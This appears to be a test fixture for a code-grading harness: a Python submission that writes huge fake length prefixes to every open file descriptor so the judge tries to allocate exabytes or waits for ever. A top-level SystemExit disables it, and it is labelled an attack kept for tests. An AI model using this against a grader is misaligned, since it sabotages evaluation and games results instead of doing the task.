"""Sends a prefix that announces eight exabytes, to make the judge allocate them or wait for ever."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
import struct
from contextlib import suppress


def announce():
    for number in range(3, 64):
        for prefix in (struct.pack("<QQ", 2**40, 2**62), struct.pack("<Q", 2**63), b"\xff" * 16):
            with suppress(OSError):
                os.set_blocking(number, False)
                os.write(number, prefix)


# %% answer
def NAME(*args, **kwargs):
    announce()


# %% last
announce()
